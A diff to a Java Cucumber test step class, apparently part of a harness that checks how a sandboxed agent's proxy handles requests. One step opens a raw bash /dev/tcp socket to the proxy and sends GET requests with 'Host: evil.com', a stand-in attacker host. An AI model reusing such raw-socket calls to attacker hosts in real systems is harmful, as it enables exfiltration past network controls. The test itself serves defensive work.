@@ -53,7 +53,8 @@ public class TerminalSteps {
 
     @When("the agent runs \\/bin\\/echo in the directory {string} with these arguments:")
     public void agentEchoes(String dir, DataTable table) {
-        List<String> arguments = table.asMaps().stream().map(r -> r.get("argument")).toList();
+        // Cucumber reads \n in a table cell as a line break: back to the notation, which raw() reads again
+        List<String> arguments = table.asMaps().stream().map(r -> r.get("argument").replace("\n", "\\n")).toList();
         planted.add(dir);
         planted.addAll(arguments);
         List<String> command = new ArrayList<>(List.of("sh", "-c", "mkdir -p \"$1\" && cd \"$1\" && shift && exec /bin/echo \"$@\"",
@@ -64,14 +65,17 @@ public class TerminalSteps {
     }
 
     @When("the agent sends the proxy a GET request for each of these URLs:")
-    public void agentSendsRequests(DataTable table) {
+    public void agentSendsRequests(DataTable table) throws IOException {
         requests = table.asMaps();
-        for (Map<String, String> row : requests) {
-            planted.add(row.get("url"));
-            String request = "GET " + raw(row.get("url")) + " HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n";
+        for (int i = 0; i < requests.size(); i++) {
+            planted.add(requests.get(i).get("url"));
+            String request = "GET " + raw(requests.get(i).get("url")) + " HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n";
+            // the proxy's first line of answer goes to a file of the workspace, read here on the host
+            Path answer = world.workspace.dir().resolve(".answer-" + i);
             Cmd.Result r = agent("bash", "-c", "p=${HTTP_PROXY#http://}; p=${p%/}; exec 3<>/dev/tcp/${p%:*}/${p##*:}"
-                    + " && printf '%s' \"$1\" >&3 && head -1 <&3", "bash", request);
-            answers.add(r.out().strip());
+                    + " && printf '%s' \"$1\" >&3 && head -1 <&3 > \"$2\"", "bash", request, answer.toString());
+            assertThat(r.exit()).as("%s", ControlText.visible(r.toString())).isZero();
+            answers.add(Files.readString(answer).strip() + "  (" + ControlText.visible(r.err()).strip() + ")");
         }
     }
 
